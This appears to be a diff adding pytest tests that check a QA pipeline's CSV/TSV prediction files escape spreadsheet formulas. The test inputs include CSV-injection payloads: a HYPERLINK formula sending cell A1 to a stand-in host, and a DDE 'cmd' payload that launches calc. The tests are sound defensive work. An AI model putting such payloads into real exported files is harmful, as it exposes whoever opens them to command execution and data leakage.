@@ -9,6 +9,7 @@ import re
 import numpy as np
 import pytest
 
+from qa_pipeline.ask import answer_files
 from qa_pipeline.ask.commands import main
 from qa_pipeline.ask.terminal import metrics_table
 from qa_pipeline.data import load_examples
@@ -127,3 +128,31 @@ def test_an_output_that_cannot_be_written_is_said_before_the_work(models, tmp_pa
     with pytest.raises(DataError, match="cannot write"):
         main(["--model", "m", "--data", str(path), "--output", str(tmp_path / "file" / "preds.json")])
     assert models["m"].decoded_with == []
+
+
+@pytest.mark.parametrize("ending", [".csv", ".tsv"])
+def test_text_in_a_table_is_no_formula(models, tmp_path, ending):
+    """A spreadsheet would compute what begins with =, +, - or @, and a document could send the table to somebody."""
+    target = tmp_path / f"preds{ending}"
+    path = data_file(tmp_path, count=4)
+    rows = json.loads(path.read_text())
+    attacks = [
+        '=HYPERLINK("http://x/"&A1,"London")',
+        "+cmd|' /C calc'!A0 of London",
+        "-2+3 of London",
+        "@SUM(1) London",
+    ]
+    for row, attack, name in zip(rows, attacks, ("-5", "+1.5%", "@id", "plain"), strict=True):
+        row["question"], row["id"] = attack, name
+    path.write_text(json.dumps(rows))
+    main(["--model", "m", "--data", str(path), "--output", str(target)])
+    with open(target, newline="") as handle:
+        found = list(csv.DictReader(handle, delimiter="," if ending == ".csv" else "\t"))
+    assert [row["question"] for row in found] == [f"'{attack}" for attack in attacks]
+    assert [row["id"] for row in found] == ["-5", "+1.5%", "'@id", "plain"]
+    assert float(found[0]["confidence"]) > 0
+
+
+def test_a_document_whose_name_is_a_formula_is_text_too():
+    assert answer_files._cell("=1+1.txt") == "'=1+1.txt" and answer_files._cell("\uff1dA1") == "'\uff1dA1"
+    assert [answer_files._cell(value) for value in (-1.5, "-1,234.5", "a=b", "")] == [-1.5, "-1,234.5", "a=b", ""]
